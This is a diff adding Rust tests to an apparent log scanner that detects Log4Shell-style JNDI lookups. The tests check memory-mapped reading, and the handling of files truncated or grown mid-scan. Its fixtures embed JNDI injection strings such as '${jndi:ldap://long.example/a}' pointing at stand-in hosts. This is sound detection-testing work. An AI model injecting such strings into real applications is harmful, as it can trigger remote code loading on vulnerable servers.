@@ -182,3 +182,174 @@ fn folders_are_walked_and_bad_files_are_warnings() {
     assert_eq!(warnings.len(), 1);
     assert!(warnings[0].contains("broken.gz"), "{warnings:?}");
 }
+
+#[cfg(target_os = "linux")]
+mod mapped {
+    use super::*;
+
+    fn temp_log(text: &[u8]) -> (tempfile::TempDir, PathBuf) {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("access.log");
+        std::fs::write(&path, text).unwrap();
+        (dir, path)
+    }
+
+    fn hunt_file(path: &Path, options: &InputOptions) -> (Vec<Hit>, HuntTotals, Vec<String>) {
+        let observer = Collect::default();
+        let totals = hunt_input(
+            &Hunter::default(),
+            &Input::File(path.to_path_buf()),
+            options,
+            &observer,
+        );
+        let hits = observer.hits.into_inner().unwrap();
+        let warnings = observer.warnings.into_inner().unwrap();
+        (hits.into_iter().map(|(_, h)| h).collect(), totals, warnings)
+    }
+
+    fn read(bytes: &[u8], options: &InputOptions) -> (Vec<Hit>, ScanSummary) {
+        let mut hits = Vec::new();
+        let (_, summary) = hunt_reader(
+            &Hunter::default(),
+            Box::new(Cursor::new(bytes.to_vec())),
+            options,
+            &mut |h| hits.extend(h),
+            &|_| {},
+        )
+        .unwrap();
+        (hits, summary)
+    }
+
+    #[test]
+    fn mapped_files_give_what_reading_gives() {
+        let small = InputOptions {
+            segment_bytes: 1 << 16,
+            ..InputOptions::default()
+        };
+        // A line longer than a segment, and no newline at the end.
+        let long_line = format!("{} ${{jndi:ldap://long.example/a}}\n", "x".repeat(200_000));
+        let mut texts = vec![
+            log_text(),
+            log_text() + &long_line + "tail ${jndi:rmi://t/x}",
+        ];
+        texts.push(log_text().repeat(3));
+        for text in texts {
+            for options in [InputOptions::default(), small] {
+                let (_dir, path) = temp_log(text.as_bytes());
+                let (hits, totals, warnings) = hunt_file(&path, &options);
+                let (expected, summary) = read(text.as_bytes(), &options);
+                assert!(warnings.is_empty(), "{warnings:?}");
+                assert_eq!(hits, expected);
+                assert_eq!(totals.scan, summary);
+            }
+        }
+    }
+
+    #[test]
+    fn a_file_cut_short_while_mapped_is_a_warning_not_a_crash() {
+        let text = log_text().repeat(8);
+        let (_dir, path) = temp_log(text.as_bytes());
+        let file = File::open(&path).unwrap();
+        let mapped = MappedFile::new(&file).unwrap();
+        // As `copytruncate` does: the pages past the new end are gone from the mapping, and
+        // touching them would raise SIGBUS.
+        File::options()
+            .write(true)
+            .open(&path)
+            .unwrap()
+            .set_len(20_000)
+            .unwrap();
+        let options = InputOptions {
+            segment_bytes: 1 << 16,
+            ..InputOptions::default()
+        };
+        let mut hits = Vec::new();
+        let failure = hunt_mapped(
+            &Hunter::default(),
+            file,
+            &mapped,
+            &options,
+            &mut |h| hits.extend(h),
+            &|_| {},
+        )
+        .unwrap_err();
+        assert!(mapped.shrank());
+        assert!(
+            failure
+                .error
+                .to_string()
+                .contains("it shrank while it was read"),
+            "{}",
+            failure.error
+        );
+        // The hits before the cut, from the first segment, were reported.
+        let (expected, _) = read(&text.as_bytes()[..20_000], &options);
+        assert!(!expected.is_empty());
+        assert_eq!(hits[..expected.len()], expected[..]);
+    }
+
+    #[test]
+    fn a_file_grown_while_mapped_is_read_to_its_end() {
+        let text = log_text();
+        let (_dir, path) = temp_log(text.as_bytes());
+        let file = File::open(&path).unwrap();
+        let mapped = MappedFile::new(&file).unwrap();
+        let appended = "late ${jndi:ldap://late.example/a}\n";
+        std::fs::OpenOptions::new()
+            .append(true)
+            .open(&path)
+            .unwrap()
+            .write_all(appended.as_bytes())
+            .unwrap();
+        let mut hits = Vec::new();
+        let (_, summary) = hunt_mapped(
+            &Hunter::default(),
+            file,
+            &mapped,
+            &InputOptions::default(),
+            &mut |h| hits.extend(h),
+            &|_| {},
+        )
+        .unwrap();
+        let (expected, expected_summary) =
+            read((text + appended).as_bytes(), &InputOptions::default());
+        assert_eq!(hits, expected);
+        assert_eq!(summary, expected_summary);
+        assert_eq!(
+            hits.last().unwrap().target_host.as_deref(),
+            Some("late.example")
+        );
+    }
+
+    #[test]
+    fn truncating_during_a_hunt_never_kills_it() {
+        let text = log_text().repeat(40);
+        let options = InputOptions {
+            segment_bytes: 1 << 16,
+            ..InputOptions::default()
+        };
+        for round in 0..4 {
+            let (_dir, path) = temp_log(text.as_bytes());
+            let cutter = {
+                let path = path.clone();
+                std::thread::spawn(move || {
+                    std::thread::sleep(std::time::Duration::from_micros(200 * round));
+                    File::options()
+                        .write(true)
+                        .open(&path)
+                        .unwrap()
+                        .set_len(1000)
+                        .unwrap();
+                })
+            };
+            let (_, totals, warnings) = hunt_file(&path, &options);
+            cutter.join().unwrap();
+            // Either the hunt finished first, or it saw the file shrink.
+            assert!(
+                warnings.is_empty() || warnings[0].contains("it shrank while it was read"),
+                "{warnings:?}"
+            );
+            assert_eq!(totals.files, 1);
+        }
+    }
+}
